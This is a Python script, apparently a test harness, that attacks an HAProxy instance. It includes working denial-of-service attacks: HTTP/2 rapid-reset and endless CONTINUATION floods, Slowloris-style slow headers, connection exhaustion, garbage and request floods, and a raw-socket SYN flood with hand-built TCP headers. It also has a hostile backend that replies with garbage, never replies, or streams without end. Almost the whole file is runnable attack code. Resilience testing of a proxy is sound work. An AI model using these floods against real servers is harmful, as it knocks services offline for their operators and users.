"""What attacks HAProxy from a VM, and from a member, until it is ended: `attacks.py KIND ADDRESS PORT`.

Alone in a namespace: standard library, nothing of ours.
"""

import os
import random
import resource
import selectors
import socket
import struct
import sys
import time
from collections.abc import Callable

AT_ONCE = 1500
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes([0, 0, 0, 4, 0, 0, 0, 0, 0])
GET = b"\x82\x84\x87\x41\x01x"  # RFC 7541: GET / by indices of the static table, and an authority
HEADERS, RESET, CONTINUATION = 1, 3, 9


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """RFC 9113, 4.1."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def resets() -> bytes:
    """A hundred requests, each taken back at once."""
    asked = (frame(HEADERS, 5, one, GET) + frame(RESET, 0, one, bytes(4)) for one in range(1, 200, 2))
    return PREFACE + b"".join(asked)


def continued() -> bytes:
    """Headers that do not end."""
    more = frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 2000)
    return PREFACE + frame(HEADERS, 0, 1, GET) + more * 20


SAID: dict[str, Callable[[], bytes]] = {
    "connections": lambda: b"",
    "slow": lambda: b"GET / HTTP/1.1\r\nX: ",
    "resets": resets,
    "continued": continued,
    "garbage": lambda: random.randbytes(200),
    "requests": lambda: b"GET / HTTP/1.1\r\nHost: x\r\n\r\n" * 20,
}


class Clients:
    """As many connections as there may be; each that ends is made anew."""

    def __init__(self, kind: str, to: tuple[str, int]) -> None:
        self._kind, self._to, self._all = kind, to, selectors.DefaultSelector()
        for _ in range(AT_ONCE if kind in ("connections", "slow") else 50):
            self._begin()

    def _begin(self) -> None:
        one = socket.socket()
        one.setblocking(False)
        one.connect_ex(self._to)
        self._all.register(one, selectors.EVENT_WRITE)

    def run(self) -> None:
        while True:
            ready = self._all.select(0.1)
            for key, events in ready:
                one = key.fileobj
                assert isinstance(one, socket.socket)
                try:
                    if events & selectors.EVENT_READ and not one.recv(65536):
                        raise ConnectionError
                    if events & selectors.EVENT_WRITE:
                        one.send(SAID[self._kind]())
                        self._all.modify(one, selectors.EVENT_READ)
                except BlockingIOError:
                    pass
                except OSError:
                    self._all.unregister(one)
                    one.close()
                    self._begin()
            if self._kind == "slow" and not ready:
                self._drip()

    def _drip(self) -> None:
        for key in list(self._all.get_map().values()):
            one = key.fileobj
            assert isinstance(one, socket.socket)
            try:
                one.send(b"a")
            except OSError:
                continue


def half_open(to: tuple[str, int]) -> None:
    """SYNs, some thousand in a second, whose answers nobody takes (RFC 9293, 3.1)."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.connect(to)
        own = one.getsockname()[0]
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    ends = socket.inet_aton(own) + socket.inet_aton(to[0])
    while True:
        for port in range(20_000, 60_000):
            head = struct.pack("!HHIIBBHHH", port, to[1], port, 0, 5 << 4, 2, 1024, 0, 0)
            total = sum(struct.unpack("!16H", ends + struct.pack("!HH", 6, 20) + head))
            total = (total & 0xFFFF) + (total >> 16)
            raw.sendto(head[:16] + struct.pack("!H", ~(total + (total >> 16)) & 0xFFFF) + head[18:], to)
            if port % 50 == 0:
                time.sleep(0.02)


def member(how: str, port: int) -> None:
    """Answers garbage, never, or without end."""
    server = socket.create_server(("", port), backlog=512)
    print("ready", flush=True)
    kept = []
    while True:
        one, _ = server.accept()
        if how == "never":
            kept.append(one)
            continue
        if not os.fork():
            with one:
                one.recv(65536)
                if how == "endless":
                    one.sendall(b"HTTP/1.1 200 OK\r\n\r\n")
                    while True:
                        one.sendall(bytes(65536))
                one.sendall(random.randbytes(5000))
            os._exit(0)


def main() -> None:
    kind, address, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
    resource.setrlimit(resource.RLIMIT_NOFILE, (4096, 4096))
    if kind in ("never", "endless", "nonsense"):
        member(kind, port)
    clients = None if kind == "half-open" else Clients(kind, (address, port))
    print("ready", flush=True)
    if clients is None:
        half_open((address, port))
    else:
        clients.run()


if __name__ == "__main__":
    main()
